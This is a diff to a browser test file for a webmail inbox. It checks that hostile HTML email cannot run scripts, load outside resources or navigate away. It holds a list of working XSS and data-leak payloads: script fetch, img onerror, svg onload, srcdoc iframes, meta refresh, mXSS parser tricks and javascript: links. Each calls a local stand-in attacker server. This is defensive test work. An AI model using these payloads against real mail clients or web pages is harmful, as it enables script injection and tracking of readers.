@@ -19,57 +19,73 @@ async function startLeakSite(): Promise<{ origin: string; requests: string[] }> 
   const requests: string[] = []
   const site = createServer((request, response) => {
     requests.push(request.url ?? '')
-    response.end('taken')
+    // Without content, a navigation is asked for and the page stays: so all attacks get their turn.
+    response.writeHead(204, { 'Access-Control-Allow-Origin': '*' }).end()
   }).listen(0, '127.0.0.1')
   await once(site, 'listening')
   onTestFinished(() => void site.close())
   return { origin: `http://127.0.0.1:${(site.address() as AddressInfo).port}`, requests }
 }
 
-/** Ways to run, fetch, navigate or submit; each would reach `leak` under its own path. */
-const attacks = (leak: string) => `<!doctype html><html><head>
-<base href="${leak}/base/">
-<meta http-equiv="refresh" content="0;url=${leak}/refresh">
-<link rel="stylesheet" href="${leak}/stylesheet">
-<link rel="prefetch" href="${leak}/prefetch"><link rel="dns-prefetch" href="${leak}">
-<style>@import url("${leak}/import"); body { background: url(${leak}/css) } @font-face { font-family: f; src: url(${leak}/font) }</style>
-<script>fetch("${leak}/script"); parent.document.title = "taken"; top.location = "${leak}/top"</script>
-<script src="${leak}/script-src"></script>
-</head><body onload="fetch('${leak}/onload')" background="${leak}/background">
-<p id="seen">What Bob may read</p>
-<img src="${leak}/img" srcset="${leak}/srcset 2x" onerror="fetch('${leak}/onerror')">
-<img src="x" onerror="fetch('${leak}/onerror-2')">
-<svg onload="fetch('${leak}/svg')"><image href="${leak}/svg-image"/><script>fetch("${leak}/svg-script")</script><use href="${leak}/use#x"/></svg>
-<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=fetch('${leak}/mxss')&gt;"></table></mtext></math>
-<noscript><p title="</noscript><img src=x onerror=fetch('${leak}/noscript')>"></noscript>
-<template><img src="${leak}/template"></template>
-<iframe src="${leak}/iframe"></iframe><iframe srcdoc="<script>fetch('${leak}/srcdoc')</script>"></iframe>
-<object data="${leak}/object"></object><embed src="${leak}/embed">
-<video poster="${leak}/poster" src="${leak}/video" autoplay></video><audio src="${leak}/audio" autoplay></audio>
-<input type="image" src="${leak}/input" autofocus onfocus="fetch('${leak}/focus')">
-<details open ontoggle="fetch('${leak}/toggle')"><summary>x</summary></details>
-<form action="${leak}/form"><button>Send</button></form>
-<a href="javascript:fetch('${leak}/javascript')">Script link</a>
-<a href="${leak}/link" ping="${leak}/ping">Outside link</a>
-<div style="background-image:url('${leak}/inline');position:fixed;inset:0;pointer-events:none">Cover</div>
-</body></html>`
+/** Ways to run, fetch or navigate that work by themselves in a page without defence: path of `LEAK` and markup. */
+const SURE_ATTACKS = [
+  ['/refresh', '<meta http-equiv="refresh" content="0;url=LEAK/refresh">'],
+  ['/base/x', '<base href="LEAK/base/"><img src="x">'],
+  ['/stylesheet', '<link rel="stylesheet" href="LEAK/stylesheet">'],
+  ['/import', '<style>@import url("LEAK/import");</style>'],
+  ['/css', '<style>p { background: url(LEAK/css) }</style><p>x</p>'],
+  [
+    '/inline',
+    '<div style="background-image:url(LEAK/inline);position:fixed;inset:0;pointer-events:none">x</div>',
+  ],
+  ['/script', '<script>fetch("LEAK/script")</script>'],
+  ['/script-src', '<script src="LEAK/script-src"></script>'],
+  ['/top', '<script>top.document.title = "taken"; top.location = "LEAK/top"</script>'],
+  ['/background', '<table background="LEAK/background"><tr><td>x</td></tr></table>'],
+  ['/img', '<img src="LEAK/img">'],
+  ['/srcset', '<img src="data:," srcset="LEAK/srcset 1x">'],
+  ['/onerror', `<img src="data:," onerror="fetch('LEAK/onerror')">`],
+  ['/svg', `<svg onload="fetch('LEAK/svg')"></svg>`],
+  ['/svg-image', '<svg><image href="LEAK/svg-image"/></svg>'],
+  ['/svg-script', '<svg><script>fetch("LEAK/svg-script")</script></svg>'],
+  ['/iframe', '<iframe src="LEAK/iframe"></iframe>'],
+  ['/srcdoc', `<iframe srcdoc="<script>fetch('LEAK/srcdoc')</script>"></iframe>`],
+  ['/object', '<object data="LEAK/object"></object>'],
+  ['/embed', '<embed src="LEAK/embed">'],
+  ['/poster', '<video poster="LEAK/poster" autoplay></video>'],
+  ['/input', '<input type="image" src="LEAK/input">'],
+  ['/focus', `<input autofocus onfocus="fetch('LEAK/focus')">`],
+  ['/toggle', `<details open ontoggle="fetch('LEAK/toggle')"><summary>x</summary></details>`],
+] as const
 
-test('the attacks are real: on a page of their own they reach the attacker', async () => {
+/** Ways that need a click, or a weakness that Chromium may not have today. */
+const MORE_ATTACKS = `<body onload="fetch('LEAK/onload')">
+<link rel="prefetch" href="LEAK/prefetch"><link rel="dns-prefetch" href="LEAK">
+<style>@font-face { font-family: f; src: url(LEAK/font) } p { font-family: f }</style>
+<svg><use href="LEAK/use#x"/></svg><audio src="LEAK/audio" autoplay></audio><video src="LEAK/video"></video>
+<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=fetch('LEAK/mxss')&gt;"></table></mtext></math>
+<noscript><p title="</noscript><img src=x onerror=fetch('LEAK/noscript')>"></noscript>
+<xmp><img src=x onerror="fetch('LEAK/xmp')"></xmp><template><img src="LEAK/template"></template>
+<form action="LEAK/form"><button>Send</button></form>
+<a href="javascript:fetch('LEAK/javascript')">Script link</a><a href="LEAK/link" ping="LEAK/ping">Outside link</a>`
+
+test('the attacks are real: on a page without defence each reaches the attacker', async () => {
   const leak = await startLeakSite()
-  const page = await browser.newPage()
-  onTestFinished(() => page.close())
-  const refreshed = page.waitForURL(`${leak.origin}/**`)
-  await page.setContent(attacks(leak.origin), { waitUntil: 'commit' })
-  await refreshed
-  for (const path of ['/stylesheet', '/script', '/img', '/onerror', '/svg', '/iframe', '/srcdoc']) {
+  const context = await browser.newContext()
+  onTestFinished(() => context.close())
+  for (const [path, markup] of SURE_ATTACKS) {
+    const page = await context.newPage()
+    await page.setContent(markup.replaceAll('LEAK', leak.origin), { waitUntil: 'commit' })
     await expect.poll(() => leak.requests, { message: path }).toContain(path)
+    await page.close()
   }
 })
 
 test('hostile HTML: nothing runs, nothing is fetched, nothing leads away', async () => {
   const leak = await startLeakSite()
   const server = await startServer()
-  await sendMail(server, { subject: 'Hostile', html: attacks(leak.origin) })
+  const attacks = `${MORE_ATTACKS}<p>What Bob may read</p>${SURE_ATTACKS.map(([, markup]) => markup).join('\n')}`
+  await sendMail(server, { subject: 'Hostile', html: attacks.replaceAll('LEAK', leak.origin) })
   const page = await openInbox(browser, server.httpUrl, {
     errors: /sandboxed|Content Security Policy|blocked/i,
   })
